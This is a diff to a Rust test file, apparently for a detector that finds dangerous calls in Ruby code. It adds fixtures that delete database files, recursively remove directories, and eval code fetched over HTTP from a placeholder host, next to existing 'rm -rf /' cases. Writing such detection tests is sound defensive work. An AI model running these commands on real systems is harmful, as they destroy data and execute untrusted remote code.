@@ -34,6 +34,15 @@ fn programs_and_calls_are_found() {
     all(
         RUBY,
         &[
+            (
+                "Dir['*.db'].each { |f| File.delete(f) }",
+                &["call: rm -- {*.db}"],
+            ),
+            (
+                "%w[a b].each { |d| FileUtils.rm_rf(d) }",
+                &["call: rm -rf -- a b"],
+            ),
+            ("eval Net::HTTP.get(URI('http://h'))", &["code: <fetched>"]),
             ("system('rm', '-rf', '/')", &["run: rm -rf /"]),
             ("exec 'rm', '-rf', '/'", &["run: rm -rf /"]),
             ("system(*%w[rm -rf /])", &["run: rm -rf /"]),
